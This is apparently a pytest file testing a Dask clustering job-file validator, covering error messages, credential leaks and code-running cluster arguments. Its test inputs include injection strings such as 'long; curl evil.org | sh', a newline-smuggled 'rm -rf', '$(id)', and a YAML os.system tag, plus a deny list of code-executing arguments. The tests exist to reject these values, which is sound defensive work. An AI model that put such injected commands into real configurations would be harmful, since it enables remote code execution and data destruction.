"""Job files: what they may say, and that every mistake is named at once."""

from __future__ import annotations

from pathlib import Path

import pytest

from hmrf_dask.errors import ConfigurationError
from hmrf_dask.jobs.clusters import CLASSES, arguments_of
from hmrf_dask.jobs.inputs import load_job
from hmrf_dask.jobs.job_file import Job

ROOT = Path(__file__).parents[1]
SMALLEST = "$schema: hmrf-dask/job/v1\nmanifest: news.yaml\nmethod: {n_clusters: 3}\noutput: out\n"


def load(folder: Path, text: str) -> Job:
    path = folder / "job.yaml"
    path.write_text(text)
    return load_job(str(path))


def refused(folder: Path, text: str) -> str:
    with pytest.raises(ConfigurationError) as caught:
        load(folder, text)
    return str(caught.value)


def test_the_smallest_job(tmp_path: Path) -> None:
    job = load(tmp_path, SMALLEST)
    assert job.method.name == "HMRFKMeans"
    assert job.method.parameters == {"n_clusters": 3, "random_state": 0}
    assert (job.mode, job.start, job.on_bad_record) == ("fit", "warm", "stop")
    assert not job.cluster.stays


def test_every_mistake_is_named_at_once_with_its_path(tmp_path: Path) -> None:
    message = refused(
        tmp_path,
        "$schema: hmrf-dask/job/v1\n"
        "manifest: news.yaml\n"
        "text: {kind: word, min_dff: 2, refit: sometimes}\n"
        "method: {nclusters: 20, learn_weights: maybe, name: KMean}\n"
        "cluster: {class: dask_jobqueue.SLURMcluster}\n"
        "outptu: x\n",
    )
    for line in (
        "10 mistakes",
        "text.kind: must be words, characters, hashing or embeddings, got 'word'",
        "(did you mean 'words'?)",
        "text.min_dff: must not be there (did you mean 'min_df'?)",
        "text.refit: must be never, always or a share such as drift>5%, got 'sometimes'",
        "method.name: ",
        "(did you mean 'KMeans'?)",
        "method.n_clusters: is missing",
        "method.nclusters: must not be there (did you mean 'n_clusters'?)",
        "method.learn_weights: must be true or false or auto or full, got 'maybe'",
        "(did you mean 'dask_jobqueue.SLURMCluster'?)",
        "output: is missing",
        "outptu: must not be there (did you mean 'output'?)",
    ):
        assert line in message


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("- a list\n", "must be a mapping of names to values, got a list"),
        ("a: [1\n", "must be YAML"),
        ("output: a\noutput: b\n", "the key 'output' comes twice"),
        ("!!python/object/apply:os.system [ls]\n", "must be YAML"),
    ],
)
def test_a_file_that_is_no_job(text: str, message: str, tmp_path: Path) -> None:
    assert message in refused(tmp_path, text)


def test_text_that_is_not_utf_8(tmp_path: Path) -> None:
    (tmp_path / "job.yaml").write_bytes(b"output: \xff\n")
    with pytest.raises(ConfigurationError, match="must be UTF-8"):
        load_job(str(tmp_path / "job.yaml"))


def test_a_method_takes_its_own_parameters_only(tmp_path: Path) -> None:
    message = refused(
        tmp_path,
        SMALLEST.replace("{n_clusters: 3}", "{name: KMeans, n_clusters: 3, closure: true}"),
    )
    assert "method: KMeans must have no closure" in message
    message = refused(
        tmp_path,
        SMALLEST.replace("{n_clusters: 3}", "{name: KMeans, n_clusters: 3, init: auto}"),
    )
    assert "method: init of KMeans must be one of k-means++, random, got auto" in message


@pytest.mark.parametrize(
    ("cluster", "message"),
    [
        (
            "{address: 'tcp://a:1', processes: 2}",
            "must be one way to run, got processes and address",
        ),
        ("{workers: 3}", "kwargs and workers must go with a class"),
        ("{class: os.system}", "must be one of"),
        (
            "{class: dask_jobqueue.SLURMCluster, kwargs: {aws: {secret_access_key: x}}}",
            "must not hold a credential",
        ),
        ("{address: 'tcp://me:CANARY5ecret@a:1'}", "address: must not hold a user or a password"),
        ("{address: 'me:CANARY5ecret@a:1'}", "address: must not hold a user or a password"),
        ("{address: 'tcp://a:1?token=CANARY5ecret'}", "address: must have no query"),
        ("'tcp://me:CANARY5ecret@a:1'", "must be a mapping"),
        ("{kwargs: [{any: CANARY5ecret}]}", "kwargs: must be a mapping of names"),
        ("{scheduler_file: 'https://me:CANARY5ecret@a/f'}", "must not hold a user or a password"),
    ],
)
def test_a_cluster_is_one_of_five_ways(cluster: str, message: str, tmp_path: Path) -> None:
    assert message in refused(tmp_path, f"{SMALLEST}cluster: {cluster}\n")


RUNS_CODE = (
    "preload",
    "preload_argv",
    "worker_class",
    "scheduler_cls",
    "env",
    "environment",
    "env_vars",
    "environ",
    "job_script_prologue",
    "worker_command",
    "worker_extra_args",
    "python",
    "remote_python",
    "shebang",
    "job_extra_directives",
    "security",
    "plugins",
    "scheduler_options",
    "connect_options",
    "custom_cluster_spec",
    "bootstrap",
    "extra_bootstrap",
    "docker_args",
    "host_setup_script",
    "services",
    "config_name",
    "loop",
)


@pytest.mark.parametrize("name", CLASSES)
def test_a_cluster_takes_nothing_that_runs_code(name: str, tmp_path: Path) -> None:
    for argument in RUNS_CODE:
        asked = f"{{class: {name}, kwargs: {{{argument}: [x.py]}}}}"
        message = refused(tmp_path, f"{SMALLEST}cluster: {asked}\n")
        assert f"kwargs of {name} must be among" in message, message
        assert f"got '{argument}'" in message


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ("{cors: 2}", "got 'cors' (did you mean 'cores'?)"),
        ("{queue: 'long; curl evil.org | sh'}", "kwargs.queue must be a text of letters"),
        ("{queue: '--uid=0'}", "kwargs.queue must be a text of letters"),
        ('{queue: "a\\nrm -rf x"}', "kwargs.queue must"),
        ("{local_directory: /tmp/$(id)}", "kwargs.local_directory must be a text of letters"),
        ("{local_directory: /tmp/a --preload b.py}", "kwargs.local_directory must be a text"),
        ("{local_directory: 's3://me:CANARY5ecret@b'}", "kwargs['local_directory'] must not hold"),
        ("{name: '{{cookie}}'}", "kwargs.name must be a text of letters"),
        ("{cores: {preload: x}}", "kwargs.cores must be no mapping"),
        ("{cores: [[[[[1]]]]]}", "kwargs.cores must be a list of plain values"),
        ("{account: {password: CANARY5ecret}}", "must not hold a credential, got 'password'"),
    ],
)
def test_arguments_of_a_cluster_are_plain(kwargs: str, message: str, tmp_path: Path) -> None:
    asked = f"{{class: dask_jobqueue.SLURMCluster, kwargs: {kwargs}}}"
    said = refused(tmp_path, f"{SMALLEST}cluster: {asked}\n")
    assert message in said
    assert "CANARY" not in said


def test_a_mapping_has_keys_that_are_known(tmp_path: Path) -> None:
    kwargs = "{hosts: [a, b], worker_options: {nthreads: 2, preload: x.py}}"
    said = refused(
        tmp_path, f"{SMALLEST}cluster: {{class: distributed.SSHCluster, kwargs: {kwargs}}}\n"
    )
    assert "kwargs.worker_options must have no 'preload'; known are local_directory" in said
    kwargs = "{resources: {requests: {memory: 2Gi}, limits: {cpu: 1}}, image: daskdev/dask:2026.3}"
    name = "dask_kubernetes.operator.KubeCluster"
    job = load(tmp_path, f"{SMALLEST}cluster: {{class: {name}, kwargs: {kwargs}}}\n")
    assert job.cluster.kwargs["resources"]["limits"] == {"cpu": 1}


def test_what_is_started_listens_as_little_as_it_can() -> None:
    nowhere = "127.0.0.1:0"
    local, slurm = "distributed.LocalCluster", "dask_jobqueue.SLURMCluster"
    assert arguments_of(local, {}) == {"host": "127.0.0.1", "dashboard_address": nowhere}
    assert arguments_of(local, {"interface": "ib0"}) == {
        "interface": "ib0",
        "dashboard_address": nowhere,
    }
    assert arguments_of(local, {"host": "0.0.0.0"})["host"] == "0.0.0.0"
    assert arguments_of(slurm, {"cores": 2, "host": "10.0.0.1"}) == {
        "cores": 2,
        "scheduler_options": {"host": "10.0.0.1", "dashboard_address": nowhere},
    }
    said = {"dashboard_address": ":1", "port": 2}
    assert arguments_of(slurm, {}, said) == {"scheduler_options": said}
    assert arguments_of("distributed.SSHCluster", {"hosts": ["a"]}) == {
        "hosts": ["a"],
        "scheduler_options": {"dashboard_address": nowhere},
    }


def test_an_output_with_options_says_where_these_belong(tmp_path: Path) -> None:
    text = SMALLEST.replace("output: out", "output: {url: 's3://b/c', storage_options: {}}")
    assert "output: must be a folder or URL" in (message := refused(tmp_path, text))
    assert "AWS_PROFILE" in message


def test_local_may_be_a_word(tmp_path: Path) -> None:
    assert load(tmp_path, f"{SMALLEST}cluster: local\n").cluster.local is None
    assert load(tmp_path, f"{SMALLEST}cluster: {{local: 2}}\n").cluster.local == 2


@pytest.mark.parametrize(
    ("refit", "drift"), [("never", None), ("drift>5%", 0.05), ("drift>12.5%", 0.125)]
)
def test_the_drift_that_asks_for_a_new_vocabulary(
    refit: str, drift: float | None, tmp_path: Path
) -> None:
    text = load(tmp_path, f"{SMALLEST}text: {{refit: '{refit}'}}\n").text
    assert text is not None
    assert text.drift == drift


def test_the_command_line_may_replace_keys(tmp_path: Path) -> None:
    (tmp_path / "job.yaml").write_text(SMALLEST)
    job = load_job(str(tmp_path / "job.yaml"), {"mode": "predict", "output": "/elsewhere"})
    assert (job.mode, job.output) == ("predict", "/elsewhere")


@pytest.mark.parametrize("name", ["demo", "newsgroups", "arxiv", "nightly"])
def test_shipped_jobs_can_be_read(name: str) -> None:
    folder = ROOT / "pipelines" / name
    job = load_job(str(folder / "job.yaml"))
    assert (folder / job.manifest).exists()
    assert job.name == name
